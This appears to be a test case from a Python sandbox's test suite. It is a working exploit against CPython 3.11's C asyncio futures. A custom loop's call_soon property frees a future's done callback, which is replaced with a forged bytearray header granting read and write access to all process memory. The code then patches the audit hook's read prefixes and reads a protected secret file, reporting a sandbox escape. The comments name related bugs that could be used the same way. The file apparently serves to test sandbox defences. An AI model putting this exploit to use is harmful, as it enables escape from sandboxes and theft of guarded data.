# expect: ok
# expect-kernel: ok|crashed|memory_limit
# value: 1
# The C `asyncio.Future` (`_asyncio`, CPython 3.11; gh-125984, fixed in 3.12 and later only) schedules its first done
# callback by looking the loop's `call_soon` up and passing it the callback by a borrowed reference. A loop of the
# code's own whose `call_soon` is a property runs Python code between the two: there `remove_done_callback` (with a
# value equal to anything) drops the future's last reference to the callback, whose block is freed, and a bytearray's
# buffer of the same size takes it, holding a bytearray header of the code's own (size 2**62, data at address 0).
# `call_soon` then receives the freed callback: that forged bytearray, which reads and writes all memory, with no audit
# event. From there the hook's frozen read prefixes (the frame of a refusal it makes unreported hands them out) gain
# "/", and the secret file is read where the hook is what guards it. The same family (the callbacks' list replaced,
# a task's `__step` with an evil `__getattribute__`, gh-125966, gh-126080, gh-126138) lives in the C futures and tasks.
# With the hook `_asyncio` is absent and asyncio takes its pure-Python futures, which copy what they call (1); without
# it native code is assumed anyway (the forged bytearray, or a crash: 1).
import contextvars
import os

HELD = []  # the forged bytearray's buffer and what the loop was handed, kept for good
CONTEXT = contextvars.copy_context()  # held here: the removal drops the future's reference to it too


class EqualToAnything:
    def __eq__(self, other):
        return True

    __hash__ = object.__hash__


class Loop:
    future = None

    def get_debug(self):
        return False

    @property
    def call_soon(self):
        self.future.remove_done_callback(EqualToAnything())  # the callback's last reference: its block is freed
        header = [1 << 20, id(bytearray), 1 << 62, (1 << 62) + 1, 0, 0, 0]  # refcount, type, size, room, data, start
        HELD.append(bytearray(b"".join(word.to_bytes(8, "little") for word in header).ljust(111, b"\0")))
        return lambda callback, future, context=None: HELD.append(callback)


def window():
    import asyncio

    loop = Loop()
    loop.future = asyncio.Future(loop=loop)
    loop.future.add_done_callback(bytes(range(64)), context=CONTEXT)  # 97 bytes: a 112-byte block, as the buffer
    loop.future.set_result(1)
    handed = HELD[-1]
    if type(handed) is bytearray and len(handed) == 1 << 62:
        return handed
    return None


def hook_frame():
    """The hook's frame, from a refusal it makes without a report (a hard link in the scratch)."""
    with open("a", "w"):
        pass
    try:
        os.link("a", "b")
    except OSError as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def check(secret_file, **p):
    frame = hook_frame()
    memory = window()
    if memory is None or frame is None:  # no hook here: native code is assumed anyway
        return 1
    prefixes, root = frame.f_locals["read_prefixes"], "/"
    memory[id(prefixes) + 24:id(prefixes) + 32] = id(root).to_bytes(8, "little")  # the prefixes' first item
    try:
        with open(secret_file) as fh:
            return "SANDBOX-ESCAPED a future's callback freed while it is scheduled: " + fh.read()
    except OSError:
        return "SANDBOX-ESCAPED raw memory with the hook running, through a future's callback freed while scheduled"
